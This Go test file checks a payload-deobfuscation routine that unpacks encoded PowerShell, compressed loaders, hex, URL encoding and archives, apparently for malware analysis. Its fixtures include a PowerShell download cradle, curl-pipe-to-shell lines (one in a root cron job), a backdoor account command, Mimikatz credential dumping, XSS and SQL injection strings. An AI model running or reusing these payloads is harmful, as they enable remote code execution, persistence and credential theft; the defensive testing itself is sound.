package decode

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')`

// unpackCase is one input of TestUnpack with its decoded text and steps.
type unpackCase struct {
	name      string
	in        string
	wantText  string
	wantSteps []string
}

// scriptCases are PowerShell and loader command lines.
func scriptCases(t *testing.T) []unpackCase {
	return []unpackCase{
		{
			name:      "powershell encoded download cradle",
			in:        `powershell.exe -nop -w hidden -enc ` + psEnc(cradle),
			wantText:  `powershell.exe -nop -w hidden -enc ` + cradle,
			wantSteps: []string{"d1 p-1 base64>utf16le text: " + cradle},
		},
		{
			name:      "short -e argument and en dash switch",
			in:        `powershell -e ` + psEnc("whoami") + ` & powershell –EncodedCommand "` + psEnc("dir") + `"`,
			wantText:  `powershell -e whoami & powershell –EncodedCommand "dir"`,
			wantSteps: []string{"d1 p-1 base64>utf16le text: whoami", "d1 p-1 base64>utf16le text: dir"},
		},
		{
			name: "powershell launching powershell",
			in:   `cmd /c powershell -ec ` + psEnc(`Start-Process powershell -ArgumentList '-w hidden -enc `+psEnc(cradle)+`'`),
			wantText: `cmd /c powershell -ec Start-Process powershell -ArgumentList '-w hidden -enc ` +
				cradle + `'`,
			wantSteps: []string{
				"d1 p-1 base64>utf16le text: Start-Process powershell -ArgumentList '-w hidden -enc " + psEnc(cradle) + "'",
				"d2 p0 base64>utf16le>base64>utf16le text: " + cradle,
			},
		},
		{
			name:      "gzip and base64 loader",
			in:        `powershell -c "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('` + b64(gz(t, []byte(cradle))) + `'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`,
			wantText:  `powershell -c "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('` + cradle + `'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`,
			wantSteps: []string{"d1 p-1 base64>gzip text: " + cradle},
		},
		{
			name:      "raw deflate loader",
			in:        `IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("` + b64(deflated(t, []byte(cradle))) + `"),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
			wantText:  `IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("` + cradle + `"),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
			wantSteps: []string{"d1 p-1 base64>deflate text: " + cradle},
		},
		{
			name:      "zlib and bzip2",
			in:        `a ` + b64(zlibbed(t, []byte("net user backdoor P@ssw0rd /add"))) + ` b ` + bzip2Script,
			wantText:  "a net user backdoor P@ssw0rd /add b #!/bin/sh\ncurl -fsSL http://203.0.113.50/x.sh | sh\n",
			wantSteps: []string{"d1 p-1 base64>zlib text: net user backdoor P@ssw0rd /add", "d1 p-1 base64>bzip2 text: #!/bin/sh\ncurl -fsSL http://203.0.113.50/x.sh | sh\n"},
		},
	}
}

// encodingCases are the other encodings, files, and text with nothing to
// decode.
func encodingCases(t *testing.T) []unpackCase {
	pe := fakePE(1024)
	peSum := sha256.Sum256(pe)
	peHash := hex.EncodeToString(peSum[:])
	sc := shellcode(80)
	return []unpackCase{
		{
			name:      "hex shellcode forms",
			in:        `buf = "` + escapedHexOf(sc[:16]) + `"; [Byte[]]$b = ` + hexListOf(sc[:20]) + `; sc=` + hex.EncodeToString(sc),
			wantText:  fmt.Sprintf(`buf = "[data 16 bytes sha256 %s]"; [Byte[]]$b = [data 20 bytes sha256 %s]; sc=[data 80 bytes sha256 %s]`, sha(sc[:16]), sha(sc[:20]), sha(sc)),
			wantSteps: []string{"d1 p-1 hex data 16 bytes sha256:" + sha(sc[:16])[:8], "d1 p-1 hex data 20 bytes sha256:" + sha(sc[:20])[:8], "d1 p-1 hex data 80 bytes sha256:" + sha(sc)[:8]},
		},
		{
			name:      "hex text",
			in:        `xp_cmdshell 0x` + hex.EncodeToString([]byte("cmd.exe /c whoami > c:\\temp\\o.txt")),
			wantText:  `xp_cmdshell 0xcmd.exe /c whoami > c:\temp\o.txt`,
			wantSteps: []string{`d1 p-1 hex text: cmd.exe /c whoami > c:\temp\o.txt`},
		},
		{
			name:      "percent encoding",
			in:        `GET /search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E HTTP/1.1`,
			wantText:  `GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1`,
			wantSteps: []string{"d1 p-1 url text: /search?q=<script>alert(document.cookie)</script>"},
		},
		{
			name:      "percent-encoded punctuation and shellcode",
			in:        `q=%27%20OR%20%271%27%3D%271 sc=%u9090%u9090%ucccc%u4141`,
			wantText:  fmt.Sprintf(`q=' OR '1'='1 [data 11 bytes sha256 %s]`, sha([]byte("sc=\x90\x90\x90\x90\xcc\xccAA"))),
			wantSteps: []string{"d1 p-1 url text: q=' OR '1'='1", "d1 p-1 url data 11 bytes sha256:" + sha([]byte("sc=\x90\x90\x90\x90\xcc\xccAA"))[:8]},
		},
		{
			name:      "pe in base64",
			in:        `certutil -decode x.b64 & echo ` + b64(pe),
			wantText:  `certutil -decode x.b64 & echo [pe 1024 bytes sha256 ` + peHash + `]`,
			wantSteps: []string{"d1 p-1 base64 pe 1024 bytes sha256:" + peHash[:8]},
		},
		{
			name: "wrapped base64",
			in:   "-----BEGIN-----\n" + wrap(b64([]byte(strings.Repeat("Invoke-Mimikatz -DumpCreds; ", 6))), 64) + "\n-----END-----",
			wantText: "-----BEGIN-----\n" + strings.Repeat("Invoke-Mimikatz -DumpCreds; ", 6) +
				"\n-----END-----",
			wantSteps: []string{"d1 p-1 base64 text: " + strings.Repeat("Invoke-Mimikatz -DumpCreds; ", 6)},
		},
		{
			name:     "nothing to decode",
			in:       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\update_service_helper.ps1 d41d8cd98f00b204e9800998ecf8427e {8a2e0370-7334-4a3b-9c1d-0123456789ab} /usr/lib/x86_64-linux-gnu/libcrypto.so.3 AdministratorsGroupMembershipChangedEvent`,
			wantText: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\update_service_helper.ps1 d41d8cd98f00b204e9800998ecf8427e {8a2e0370-7334-4a3b-9c1d-0123456789ab} /usr/lib/x86_64-linux-gnu/libcrypto.so.3 AdministratorsGroupMembershipChangedEvent`,
		},
	}
}

func TestUnpack(t *testing.T) {
	tests := append(scriptCases(t), encodingCases(t)...)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Unpack(context.Background(), tt.in, Limits{})
			if err != nil {
				t.Fatalf("Unpack: %v", err)
			}
			if diff := cmp.Diff(tt.wantText, res.Text); diff != "" {
				t.Errorf("Text (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.wantSteps, summary(res.Steps)); diff != "" {
				t.Errorf("Steps (-want +got):\n%s", diff)
			}
			checkSteps(t, tt.in, res)
		})
	}
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// wrap breaks s into lines of n characters.
func wrap(s string, n int) string {
	var lines []string
	for len(s) > n {
		lines, s = append(lines, s[:n]), s[n:]
	}
	return strings.Join(append(lines, s), "\n")
}

// checkSteps verifies the invariants of every result: indexes, parents
// before children, depths, offsets within the parent's text.
func checkSteps(t *testing.T, in string, res Result) {
	t.Helper()
	for i, s := range res.Steps {
		if s.Index != i {
			t.Fatalf("step %d has Index %d", i, s.Index)
		}
		parentText := in
		wantDepth := 1
		if s.Parent >= 0 {
			if s.Parent >= i {
				t.Fatalf("step %d: parent %d not before it", i, s.Parent)
			}
			parentText = res.Steps[s.Parent].Text
			wantDepth = res.Steps[s.Parent].Depth + 1
		}
		if s.Depth != wantDepth {
			t.Fatalf("step %d: depth %d, want %d", i, s.Depth, wantDepth)
		}
		if s.Member == "" && (s.Start < 0 || s.End > len(parentText) || s.Start > s.End || parentText[s.Start:s.End] != s.Encoded) {
			t.Fatalf("step %d: Encoded %q is not parent text [%d:%d]", i, s.Encoded, s.Start, s.End)
		}
		if len(s.Chain) == 0 || s.FileType == "" {
			t.Fatalf("step %d: empty chain or file type: %+v", i, s)
		}
	}
}

func TestUnpackArchives(t *testing.T) {
	pe := fakePE(2048)
	inner := zipOf(t,
		file{"readme.txt", []byte("run the installer")},
		file{"setup.exe", pe},
		file{"stage2.ps1", []byte("powershell -enc " + psEnc(cradle))},
	)
	tgz := gz(t, tarOf(t, file{"etc/cron.d/upd", []byte("* * * * * root curl -s http://198.51.100.9/u|sh")}))
	in := "payload=" + b64(inner) + " second=" + b64(tgz)
	res, err := Unpack(context.Background(), in, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"d1 p-1 base64 zip " + fmt.Sprint(len(inner)) + " bytes sha256:" + sha(inner)[:8],
		"d2 p0 base64>zip text member=readme.txt: run the installer",
		"d2 p0 base64>zip pe member=setup.exe 2048 bytes sha256:" + sha(pe)[:8],
		"d2 p0 base64>zip text member=stage2.ps1: powershell -enc " + psEnc(cradle),
		"d3 p3 base64>zip>base64>utf16le text: " + cradle,
		"d1 p-1 base64>gzip tar " + fmt.Sprint(len(tarOf(t, file{"etc/cron.d/upd", []byte("* * * * * root curl -s http://198.51.100.9/u|sh")}))) + " bytes sha256:" + sha(tarOf(t, file{"etc/cron.d/upd", []byte("* * * * * root curl -s http://198.51.100.9/u|sh")}))[:8],
		"d2 p5 base64>gzip>tar text member=etc/cron.d/upd: * * * * * root curl -s http://198.51.100.9/u|sh",
	}
	if diff := cmp.Diff(want, summary(res.Steps)); diff != "" {
		t.Errorf("steps (-want +got):\n%s", diff)
	}
	for _, s := range res.Steps[1:4] {
		if s.MD5 == "" || s.SHA1 == "" || s.SHA256 == "" {
			t.Errorf("member %s has no hashes", s.Member)
		}
	}
	for _, frag := range []string{"readme.txt: run the installer", "setup.exe: [pe 2048 bytes sha256 " + sha(pe), "stage2.ps1: powershell -enc " + cradle, "etc/cron.d/upd: * * * * * root curl"} {
		if !strings.Contains(res.Text, frag) {
			t.Errorf("Text lacks %q:\n%s", frag, res.Text)
		}
	}
}

func TestUnpackOffice(t *testing.T) {
	docx := zipOf(t, file{"[Content_Types].xml", []byte(`<?xml version="1.0"?><Types/>`)}, file{"word/document.xml", []byte("<w:document/>")})
	res, _ := Unpack(context.Background(), "att="+b64(docx), Limits{})
	if len(res.Steps) == 0 || res.Steps[0].FileType != "ooxml" {
		t.Fatalf("steps %q, want an ooxml archive first", summary(res.Steps))
	}
}

func TestUnpackContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := Unpack(ctx, "x "+psEnc(cradle), Limits{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}
